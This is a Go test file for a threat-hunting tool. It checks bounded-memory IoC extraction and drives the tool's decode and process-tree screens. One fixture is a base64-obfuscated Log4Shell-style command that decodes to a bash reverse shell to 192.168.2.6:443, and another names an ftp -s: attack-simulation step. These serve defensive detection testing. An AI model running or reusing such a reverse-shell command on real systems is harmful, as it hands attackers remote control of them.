package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// demoText is every demo source file, decompressed and joined: real log text
// (Windows events, Sysmon, syslog, auditd, Azure AD, Office) to feed the
// extractor.
func demoText(t *testing.T) []byte {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("testdata", "demo", "sources", "*.gz"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no demo sources: %v", err)
	}
	sort.Strings(files)
	var b bytes.Buffer
	for _, f := range files {
		fh, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		zr, err := gzip.NewReader(fh)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(&b, zr); err != nil {
			t.Fatal(err)
		}
		fh.Close()
		if b.Len() > 0 && b.Bytes()[b.Len()-1] != '\n' {
			b.WriteByte('\n')
		}
	}
	return b.Bytes()
}

// repeated yields block n times.
type repeated struct {
	block []byte
	n, at int
}

func (r *repeated) Read(p []byte) (int, error) {
	if r.n == 0 {
		return 0, io.EOF
	}
	k := copy(p, r.block[r.at:])
	if r.at += k; r.at == len(r.block) {
		r.at, r.n = 0, r.n-1
	}
	return k, nil
}

// hwm is the peak resident set line of /proc/PID/status.
var hwm = regexp.MustCompile(`(?m)^VmHWM:\s+(\d+) kB`)

// countLines runs `quarry ioc - -o jsonl` on the input and returns how many
// indicators it wrote, and the process's peak resident memory in bytes.
func countLines(t *testing.T, input io.Reader) (int, int64, time.Duration) {
	t.Helper()
	cmd := command(t, t.TempDir(), "ioc", "-", "-o", "jsonl")
	cmd.Stdin = input
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	began := time.Now()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// The child's peak RSS, read from /proc while it runs: rusage's maxrss would
	// count this (race-instrumented, large) test process, whose memory the child
	// shares between fork and exec.
	var peak atomic.Int64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		status := fmt.Sprintf("/proc/%d/status", cmd.Process.Pid)
		for {
			if b, err := os.ReadFile(status); err == nil {
				if m := hwm.FindSubmatch(b); m != nil {
					kb, _ := strconv.ParseInt(string(m[1]), 10, 64)
					if kb*1024 > peak.Load() {
						peak.Store(kb * 1024)
					}
				}
			}
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	n := 0
	sc := bufio.NewScanner(out)
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		n++
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	close(stop)
	<-sampled
	if err := cmd.Wait(); err != nil {
		t.Fatalf("quarry ioc: %v\n%s", err, stderr.Bytes())
	}
	return n, peak.Load(), time.Since(began)
}

// A 2 GiB stream goes through `quarry ioc` in bounded memory and loses nothing:
// the demo's log text repeated to 2 GiB gives exactly as many indicators as one
// copy times the repeats, with the process's peak memory far below the input.
func TestIoCTwoGigabytesBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("streams 2 GiB through the binary")
	}
	block := demoText(t)
	one, _, _ := countLines(t, bytes.NewReader(block))
	if one < 1000 {
		t.Fatalf("only %d indicators in the demo text", one)
	}
	repeats := int((2<<30)/int64(len(block))) + 1
	n, rss, took := countLines(t, &repeated{block: block, n: repeats})
	size := int64(repeats) * int64(len(block))
	t.Logf("%d MiB in %s (%.0f MB/s), %d indicators, peak RSS %d MiB", size>>20, took.Round(time.Millisecond),
		float64(size)/took.Seconds()/1e6, n, rss>>20)
	if n != one*repeats {
		t.Errorf("%d indicators from %d copies of a text that has %d", n, repeats, one)
	}
	if rss == 0 || rss > 128<<20 {
		t.Errorf("peak RSS %d MiB reading %d MiB", rss>>20, size>>20)
	}
}

// TestDecodePaneAsAPerson pastes the demo's Log4Shell command into the Decode
// pane of the real binary, reads the decoded reverse shell and its address, and
// sends the address on to the queries that take one.
func TestDecodePaneAsAPerson(t *testing.T) {
	line := "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
	snaps, _ := tuiDrive(t, 120, 40, nil,
		"8", "p", "text:"+line, "C-s", "sleep:1", "snap", // 1: decoded, the input selected
		"j", "snap", // 2: the payload selected
		"w", "w", "Enter", "sleep:0.5", "snap", // 3: the address sent on
		"q")
	if len(snaps) != 3 {
		t.Fatalf("%d snapshots", len(snaps))
	}
	for _, want := range []string{"pasted · 1 payload", "base64>utf-8"} {
		if !strings.Contains(snaps[0], want) {
			t.Errorf("snap 1 lacks %q:\n%s", want, snaps[0])
		}
	}
	for _, want := range []string{"bash -i >& /dev/tcp/192.168.2.6/443 0>&1", "ipv4", "192.168.2.6"} {
		if !strings.Contains(snaps[1], want) {
			t.Errorf("snap 2 lacks %q:\n%s", want, snaps[1])
		}
	}
	if !strings.Contains(snaps[2], "taking 192.168.2.6") || !strings.Contains(snaps[2], "▶1 Queries") {
		t.Errorf("snap 3: the address did not reach the query browser:\n%s", snaps[2])
	}
}

// TestProcessTreeAsAPerson runs the demo host's process query in the real binary,
// presses T for its tree, finds the ftp -s: step of the attack simulation and
// opens its details.
func TestProcessTreeAsAPerson(t *testing.T) {
	snaps, _ := tuiDrive(t, 120, 40, nil,
		":", "text:q WindowsSecurity.list_host_processes host_name=MSTICAlertsWin1", "Enter", "sleep:2",
		"T", "sleep:1.5", "snap", // 1: the tree
		"/", "text:ftp", "Enter", "sleep:0.5", "d", "snap", // 2: found, details open
		"q")
	if len(snaps) != 2 {
		t.Fatalf("%d snapshots", len(snaps))
	}
	for _, want := range []string{"▶4 Process tree", "369 processes · 6 roots · depth 5", "MonitoringHost.exe (inferred)", "├─▾ ASMHost.exe"} {
		if !strings.Contains(snaps[0], want) {
			t.Errorf("snap 1 lacks %q:\n%s", want, snaps[0])
		}
	}
	for _, want := range []string{"match 1 of 1", "ftp.exe  .\\ftp  -s:C:\\RECYCLER\\xxppyy.exe", `C:\Diagnostics\UserTmp\ftp.exe`, "parent pid 3016", `C:\Windows\System32\cmd.exe`} {
		if !strings.Contains(snaps[1], want) {
			t.Errorf("snap 2 lacks %q:\n%s", want, snaps[1])
		}
	}
}
